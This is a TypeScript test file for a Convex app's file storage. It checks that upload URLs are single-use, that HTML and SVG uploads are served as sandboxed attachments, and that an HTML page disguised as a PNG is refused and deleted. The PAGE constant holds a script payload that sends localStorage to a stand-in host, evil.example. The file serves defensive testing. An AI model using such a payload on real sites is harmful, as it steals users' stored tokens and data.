/**
 * Uploads and stored files over HTTP, as an attacker would use them: a stored page must never
 * run on the app's origin, and an upload URL stores one file only.
 */
import { ConvexHttpClient } from "convex/browser";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { api } from "../../convex/_generated/api";
import type { Id } from "../../convex/_generated/dataModel";
import { UNSUPPORTED_IMAGE } from "../../convex/shared/image-types";
import { newClient, removeTestDataDirs, signInToken, startTestBackend } from "./server-fixture/protocol-env";

const PNG_BYTES = new Uint8Array(Buffer.from("89504e470d0a1a0a0000000d4948445200000001000000010806000000", "hex"));
const PAGE = "<html><script>fetch('//evil.example/?' + JSON.stringify(localStorage))</script></html>";

describe("stored files", () => {
  let backend: Awaited<ReturnType<typeof startTestBackend>>;
  let http: ConvexHttpClient;

  beforeAll(async () => {
    backend = await startTestBackend();
    const signIn = newClient(backend.url);
    const token = await signInToken(signIn.client, "alice@example.com");
    await signIn.client.close();
    http = new ConvexHttpClient(backend.url, { logger: false });
    http.setAuth(token);
  }, 30_000);

  afterAll(async () => {
    await backend?.close();
    removeTestDataDirs();
  });

  async function upload(body: string | Uint8Array<ArrayBuffer>, contentType: string): Promise<Id<"_storage">> {
    const uploadUrl = await http.mutation(api.files.generateUploadUrl, {});
    const response = await fetch(uploadUrl, { method: "POST", headers: { "Content-Type": contentType }, body });
    expect(response.status).toBe(200);
    return ((await response.json()) as { storageId: Id<"_storage"> }).storageId;
  }

  it("an upload URL stores exactly one file", async () => {
    const uploadUrl = await http.mutation(api.files.generateUploadUrl, {});
    const post = () => fetch(uploadUrl, { method: "POST", headers: { "Content-Type": "image/png" }, body: PNG_BYTES });
    expect((await post()).status).toBe(200);
    const again = await post();
    expect(again.status).toBe(401);
    expect(await again.json()).toMatchObject({ code: "StorageTokenInvalid" });
  });

  it("serves an HTML upload as a sandboxed download that cannot be sniffed, never as a page", async () => {
    const storageId = await upload(PAGE, "text/html");
    const served = await fetch(`${backend.url}/api/storage/${storageId}`);
    expect(served.status).toBe(200);
    expect(served.headers.get("x-content-type-options")).toBe("nosniff");
    expect(served.headers.get("content-security-policy")).toMatch(/(^|;\s*)sandbox(;|$)/);
    expect(served.headers.get("content-disposition")).toBe("attachment");
  });

  it("serves an SVG as a download too, and a PNG inline, both sandboxed", async () => {
    const svg = await fetch(`${backend.url}/api/storage/${await upload("<svg/>", "image/svg+xml")}`);
    expect(svg.headers.get("content-disposition")).toBe("attachment");
    const png = await fetch(`${backend.url}/api/storage/${await upload(PNG_BYTES, "image/png")}`);
    expect(png.headers.get("content-disposition")).toBeNull();
    expect(png.headers.get("content-security-policy")).toMatch(/sandbox/);
    expect(png.headers.get("x-content-type-options")).toBe("nosniff");
  });

  it("refuses to confirm an HTML page posing as an image, and deletes it", async () => {
    const storageId = await upload(PAGE, "image/png");
    await expect(http.action(api.files.confirmUpload, { storageId })).rejects.toThrow(UNSUPPORTED_IMAGE);
    expect((await fetch(`${backend.url}/api/storage/${storageId}`)).status).toBe(404);
  });
});
